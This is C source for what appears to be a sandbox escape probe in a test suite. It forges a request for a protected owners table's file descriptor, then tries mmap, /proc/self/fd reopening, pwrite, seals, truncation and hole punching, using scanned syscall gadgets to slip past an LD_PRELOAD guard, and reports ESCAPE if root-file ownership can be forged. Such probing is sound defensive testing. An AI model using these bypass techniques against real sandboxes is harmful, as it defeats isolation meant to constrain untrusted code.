/* Forges owners in the session's owners table without touching the mapping
 * preld guards: asks the server for the table's fd itself (a forged
 * OwnersTable request on its own connection, found as forge_rpc finds
 * it), then tries to make that read-only fd give a writable mapping:
 * mmap PROT_WRITE, reopen through /proc/self/fd O_RDWR (libc and ld-preld's
 * `syscall; ret`), write() and pwrite(), seals, truncation, a hole
 * punched. If a write lands, it writes owners
 * 4242:4242 for argv[4] (a file of root's on a grant) and execs itself
 * ("check") so a fresh image of the session reads the table. Owners other
 * than 0:0, or a write that lands, print ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include "owners.h"
#include <poll.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <linux/falloc.h>

#define TABLE_BYTES (4UL << 20)

/* A change of the table that went through: ESCAPE. */
static void landed(const char *how, long r) {
    printf("%s: %s%s\n", how, r < 0 ? strerror((int)-r) : "done", r >= 0 ? " ESCAPE: the table changed" : "");
    fflush(stdout);
}

/* proto::owners_table::bucket, in u64 words: a page of 64 buckets per
   run of 64 inode numbers, the bucket there the number's low 6 bits. */
static unsigned long bucket(unsigned long dev, unsigned long ino) {
    unsigned long h = ((ino >> 6) ^ ((dev << 29) | (dev >> 35))) * 0x9e3779b97f4a7c15UL;
    return ((h >> 40) % 1024 * 64 + (ino & 63)) * 2 * 4;
}

/* Writes owners 4242:4242 for (dev, ino) into the table mapped at t. */
static void forge(volatile unsigned long *t, unsigned long dev, unsigned long ino) {
    volatile unsigned long *b = t + bucket(dev, ino);
    for (int w = 0; w < 2; w++) {
        volatile unsigned long *s = b + w * 4;
        s[0] = 2;
        s[1] = dev;
        s[2] = ino;
        s[3] = (4242UL << 32) | 4242UL;
    }
}

/* The table's fd, from a forged OwnersTable request on one of the
 * process's connections (-1 if none answered with an fd). */
static int ask_table(void) {
    for (int fd = 0; fd < 65536; fd++) {
        struct stat st;
        int hit = fd < 1024 && raw(SYS_fstat, fd, &st, 0, 0) == 0 && S_ISSOCK(st.st_mode);
        for (int g = 0; !hit && g < ncand && g < 4; g++)
            hit = call_gadget(cands[g], SYS_fstat, fd, (long)&st, 0, 0) == 0 && S_ISSOCK(st.st_mode);
        if (!hit) continue;
        unsigned char frame[16] = {0};
        unsigned magic = 0x444c5250, id = 0x7777;
        unsigned short version = 1, op = 26;
        memcpy(frame, &magic, 4);
        memcpy(frame + 4, &version, 2);
        memcpy(frame + 6, &op, 2);
        memcpy(frame + 8, &id, 4);
        long r = ncand ? call_gadget(cands[0], SYS_sendto, fd, (long)frame, 16, MSG_DONTWAIT | MSG_NOSIGNAL)
                       : raw(SYS_sendto, fd, frame, 16, MSG_DONTWAIT | MSG_NOSIGNAL);
        if (r != 16) continue;
        struct pollfd p = { fd, POLLIN, 0 };
        if (ncand) call_gadget(cands[0], SYS_poll, (long)&p, 1, 2000, 0);
        else raw(SYS_poll, &p, 1, 2000, 0);
        char rb[256];
        char cbuf[CMSG_SPACE(4 * sizeof(int))];
        struct iovec iov = { rb, sizeof rb };
        struct msghdr mh = { 0, 0, &iov, 1, cbuf, sizeof cbuf, 0 };
        r = ncand ? call_gadget(cands[0], SYS_recvmsg, fd, (long)&mh, MSG_DONTWAIT, 0) : raw(SYS_recvmsg, fd, &mh, MSG_DONTWAIT, 0);
        printf("fd %d: OwnersTable reply %ld bytes\n", fd, r);
        if (r < 0) continue;
        for (struct cmsghdr *c = CMSG_FIRSTHDR(&mh); c; c = CMSG_NXTHDR(&mh, c))
            if (c->cmsg_type == SCM_RIGHTS) {
                int got = ((int *)CMSG_DATA(c))[0];
                printf("table fd received: %d\n", got);
                fflush(stdout);
                return got;
            }
    }
    return -1;
}

int main(int argc, char **argv) {
    if (argc == 6 && !strcmp(argv[5], "check")) {
        owners("after, in a fresh image", argv[4]);
        return 0;
    }
    ARGS
    if (argc < 5) { fprintf(stderr, "usage: secret ro rw root-file\n"); return 2; }
    const char *file = argv[4];
    owners("first", file);
    struct stat st;
    if (lstat(file, &st) != 0) return 1;
    find_gadgets();
    int t = ask_table();
    if (t < 0) { printf("no table fd\n"); return 0; }
    printf("table: asked for\n");
    void *m = mmap(0, TABLE_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, t, 0);
    printf("mmap rw shared of the fd: %s\n", m == MAP_FAILED ? strerror(errno) : "ESCAPE: mapped writable");
    if (m != MAP_FAILED) forge(m, st.st_dev, st.st_ino);
    /* Seals (F_SEAL_SEAL is on: none can be added), its size, its pages. */
    landed("F_ADD_SEALS write", lc(fcntl(t, F_ADD_SEALS, F_SEAL_WRITE)));
    landed("ftruncate to 0", lc(ftruncate(t, 0)));
    landed("fallocate punch hole", lc(fallocate(t, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, TABLE_BYTES)));
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", t);
    int w[2] = { (int)lc(open(path, O_RDWR)), -1 };
    printf("libc open %s O_RDWR: %s\n", path, w[0] < 0 ? strerror(-w[0]) : "opened");
    if (ncand) {
        w[1] = (int)call_gadget(cands[0], SYS_openat, AT_FDCWD, (long)path, O_RDWR, 0);
        printf("gate openat %s O_RDWR: %s\n", path, w[1] < 0 ? strerror(-w[1]) : "opened");
    }
    for (int i = 0; i < 2; i++) {
        if (w[i] < 0) continue;
        unsigned long zero = 0;
        long n = pwrite(w[i], &zero, 0, 0);
        printf("pwrite of 0 bytes: %ld\n", n);
        m = mmap(0, TABLE_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, w[i], 0);
        printf("mmap rw shared of the reopened fd: %s\n", m == MAP_FAILED ? strerror(errno) : "ESCAPE: mapped writable");
        if (m != MAP_FAILED) forge(m, st.st_dev, st.st_ino);
        unsigned long words[4] = { 2, st.st_dev, st.st_ino, (4242UL << 32) | 4242UL };
        unsigned long at = bucket(st.st_dev, st.st_ino) * 8;
        n = pwrite(w[i], words, sizeof words, at);
        printf("pwrite into the reopened fd: %ld%s\n", n < 0 ? -errno : n, n > 0 ? " ESCAPE: the table was written" : "");
        n = pwrite(w[i], words, sizeof words, at + 32);
        fflush(stdout);
    }
    owners("after", file);
    fflush(stdout);
    char *args[] = { argv[0], argv[1], argv[2], argv[3], argv[4], "check", 0 };
    execv(argv[0], args);
    printf("exec: %s\n", strerror(errno));
    return 0;
}
